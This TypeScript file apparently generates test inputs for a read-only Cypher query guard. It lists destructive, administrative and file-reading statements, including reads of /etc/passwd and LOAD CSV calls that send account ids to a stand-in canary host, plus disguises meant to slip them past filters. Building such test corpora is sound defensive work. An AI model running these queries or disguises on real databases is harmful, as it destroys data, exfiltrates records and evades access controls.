/** Statements that do more than read the graph, by what they are after; `CANARY` stands for the address of a server that must never be asked. */
const BASES: Readonly<Record<string, readonly string[]>> = {
  writes: [
    "CREATE (n:Pwned)",
    "MERGE (n:Pwned {id: 1}) RETURN n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (a:Account)-[r]->() DELETE r",
    "MATCH (n:Account) SET n.status = 'banned' RETURN n",
    "MATCH (n:Account) SET n:Pwned",
    "MATCH (n:Account) SET n += {pwned: true} RETURN count(n)",
    "MATCH (n:Account) REMOVE n.status RETURN n",
    "MATCH (n:Account) REMOVE n:Account",
    "MATCH (a:Account) FOREACH (x IN [1] | CREATE (:Pwned))",
    "UNWIND [1] AS x CALL (x) { CREATE (:Pwned) } RETURN x",
    "MATCH (a:Account) WITH a LIMIT 1 MERGE (a)-[:PWNED]->(a) RETURN a",
  ],
  schema: [
    "CREATE INDEX pwned FOR (n:Account) ON (n.status)",
    "DROP INDEX account_created",
    "CREATE CONSTRAINT pwned FOR (n:Pwned) REQUIRE n.id IS UNIQUE",
    "DROP CONSTRAINT account_id IF EXISTS",
    "CREATE FULLTEXT INDEX pwned FOR (n:Account) ON EACH [n.displayName]",
    "CALL db.createLabel('Pwned')",
    "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
  ],
  administration: [
    "SHOW USERS",
    "SHOW DATABASES YIELD name RETURN name",
    "SHOW TRANSACTIONS",
    "SHOW SETTINGS YIELD name, value RETURN name, value",
    "SHOW PROCEDURES",
    "CREATE USER eve SET PASSWORD 'correct-horse-battery-staple'",
    "DROP USER neo4j",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'correct-horse-battery-staple'",
    "GRANT ROLE admin TO neo4j",
    "CREATE DATABASE eve",
    "STOP DATABASE neo4j",
    "DROP DATABASE neo4j",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "CREATE ALIAS eve FOR DATABASE neo4j",
  ],
  files: [
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'CANARY/a.csv' AS line RETURN line",
    "MATCH (a:Account) LOAD CSV FROM 'CANARY/b?id=' + a.id AS line RETURN count(line)",
    "RETURN COLLECT { LOAD CSV FROM 'CANARY/c' AS line RETURN line }",
    "RETURN CASE WHEN true THEN COLLECT { LOAD CSV FROM 'CANARY/d' AS l RETURN l[0] } END",
    "MATCH (n:Account) RETURN [x IN [1] | COLLECT { LOAD CSV FROM 'CANARY/e' AS l RETURN l[0] }]",
    "RETURN EXISTS { LOAD CSV FROM 'CANARY/f' AS l RETURN l }",
  ],
  procedures: [
    "CALL dbms.killConnection('bolt-1')",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.queryJmx('*:*') YIELD name RETURN name",
    "CALL db.clearQueryCaches()",
    "CALL db.stats.clear('QUERIES')",
    "CALL db.checkpoint()",
    "CALL dbms.components() YIELD name RETURN name",
    "CALL tx.setMetaData({a: 1})",
    "CALL apoc.cypher.runWrite('CREATE (:Pwned)', {})",
    "RETURN COLLECT { CALL dbms.listConfig() YIELD name RETURN name }",
    "MATCH (n) WHERE COUNT { CALL dbms.components() YIELD name RETURN name } > 0 RETURN n",
    "RETURN apoc.cypher.runFirstColumnMany('LOAD CSV FROM \"CANARY/g\" AS l RETURN l', {})",
    "RETURN gds.util.asNode(0)",
  ],
  transactions: [
    "UNWIND [1] AS x CALL (x) { CREATE (:Pwned) } IN TRANSACTIONS RETURN x",
    "UNWIND [1] AS x CALL (x) { MATCH (n) RETURN n } IN 3 CONCURRENT TRANSACTIONS RETURN n",
    "MATCH (a:Account) CALL (a) { SET a.pwned = 1 } IN TRANSACTIONS OF 10 ROWS",
  ],
};

/** The first keyword with its second letter as a unicode escape, which Cypher decodes before it reads words. */
const escaped = (text: string): string =>
  text.replace(/[A-Z]{2}/, ([first, second]) => `${first}\\u00${second.charCodeAt(0).toString(16)}`);
const mixedCase = (text: string): string =>
  text.replaceAll(/\b[A-Z]{2,}\b/g, (word) => [...word].map((c, n) => (n % 2 === 0 ? c.toLowerCase() : c)).join(""));

const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  "mixed case": mixedCase,
  "comments for spaces": (text) => text.replaceAll(/([A-Z)}]) (?=[A-Z({$])/g, "$1/* MATCH (n) RETURN n */"),
  "a comment before": (text) => `// MATCH (n) RETURN n\n /**/ \t\u00A0${text};`,
  "a unicode escape": escaped,
  "a second statement": (text) => `RETURN 1 AS one; ${text}`,
  "a prefix": (text) => `CYPHER 5 ${text}`,
  "EXPLAIN before": (text) => `EXPLAIN ${text}`,
  "another database": (text) => `USE system ${text}`,
  "a subquery": (text) => `CALL { ${text} } RETURN 1 AS one`,
};

/** A hostile statement with what it is and how it is disguised. */
export interface Hostile {
  what: string;
  cypher: string;
}

/** Every base in every disguise, and what is hostile in its shape alone; each statement once. */
export function hostileStatements(canary: string): Hostile[] {
  const disguised = Object.entries(BASES).flatMap(([kind, bases]) =>
    bases.flatMap((base) =>
      Object.entries(DISGUISES).map(([disguise, put]) => ({
        what: `${kind}, ${disguise}: ${base}`,
        cypher: put(base).replaceAll("CANARY", canary),
      })),
    ),
  );
  const shapes = SHAPES.map((cypher) => ({ what: `shape: ${cypher.slice(0, 60)}`, cypher }));
  const all = [...disguised, ...shapes];
  return [...new Map(all.map((each) => [each.cypher, each])).values()];
}

const SHAPES: readonly string[] = [
  "",
  " \n\t",
  "RETURN 1 ".repeat(3000),
  `RETURN ${"[".repeat(150)}1${"]".repeat(150)}`,
  "MATCH (n) RETURN 'never closed",
  "MATCH (n) RETURN `never closed",
  "MATCH (n) /* never closed RETURN n",
  "MATCH (n:Account) WHERE n.id =~ '(.*a){30}' RETURN n",
  "PROFILE MATCH (n) RETURN n",
  "CALL `dbms`.`listConfig`() YIELD name RETURN name",
  "CALL dbms . listConfig() YIELD name RETURN name",
  "CALL dbms./**/listConfig()",
  "RETURN apoc . `load` . jsonParams('x')",
  "MATCH (n) RETURN n ;; MATCH (m) RETURN m",
  "MATCH (f:Identifier) RETURN f.exemplar",
  "MATCH (f:Identifier) RETURN f['exemplar']",
  "MATCH (f:Identifier) RETURN [k IN keys(f) | f[k]]",
  "MATCH (f:Identifier) UNWIND keys(f) AS k RETURN f [ k ]",
  "MATCH (f:Identifier) RETURN f['exem' + 'plar']",
  "MATCH (f:Identifier) RETURN f['exem' || 'plar']",
  "MATCH (f:Identifier) RETURN f['exem' || CASE WHEN 2 - 1 = 1 THEN 'plar' END]",
  "MATCH (f:Identifier) RETURN f[CASE WHEN 2 - 1 = 1 THEN 'exem' + 'plar' END]",
  "MATCH (f:Identifier) RETURN f[CASE WHEN f:Ip|Device THEN 'plar' ELSE 'exem' + 'plar' END]",
  "MATCH (f:Identifier) WITH f, 'exem' + 'plar' AS `k` RETURN f[`k`]",
  "MATCH (f:Identifier) WITH f AS in, 'exem' + 'plar' AS k RETURN in[k]",
  "MATCH (f:Identifier) RETURN properties(f)[replace('exxemplar', 'xx', 'x')]",
  "MATCH (f:Identifier) RETURN (f {.*})[toLower('EXEM') + 'plar']",
  "MATCH (f:Identifier) RETURN [k IN keys(f) | {f: f}.f[k]]",
  "MATCH (f:Identifier) RETURN collect(f)[0][head(keys(f))]",
  "MATCH (f:Identifier) RETURN reduce(k = 'exem', x IN ['plar'] | f[k + x])",
  "MATCH (f:Identifier) RETURN f[toInteger('1') + 'exem' + 'plar']",
];
